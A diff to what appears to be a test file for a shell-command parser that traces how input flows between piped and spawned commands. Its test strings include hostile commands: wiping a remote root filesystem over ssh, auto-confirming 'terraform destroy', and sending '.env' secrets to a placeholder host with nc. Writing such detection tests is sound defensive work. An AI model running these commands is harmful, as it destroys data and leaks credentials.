@@ -38,3 +38,11 @@ def test_what_an_expect_script_sends_is_the_spawned_commands_stdin():
     assert tf.stdin_text == "yes\n" and "printf" in tf.upstream
     remote = [c for c in parse("""expect -c 'spawn ssh root@h; send "rm -rf /\\r"'""").commands if c.argv[:1] == ("rm",)]
     assert remote and remote[0].argv == ("rm", "-rf", "/")  # typed into ssh: run there
+
+
+def test_a_process_substitution_on_the_shells_stdin_feeds_the_scripts_readers():
+    assert "yes" in _cmd("bash -c 'terraform destroy' < <(yes)", "terraform").upstream
+    assert "nc" in _cmd("bash -c 'nc x.example 9' < <(cat .env)", "cat").downstream
+    assert "nc" in _cmd("bash -c 'nc x.example 9' <<< \"$(cat .env)\"", "cat").downstream
+    # expect's exp_send is its send
+    assert _cmd("""expect -c 'spawn terraform destroy; exp_send "yes\\r"'""", "terraform").stdin_text == "yes\n"
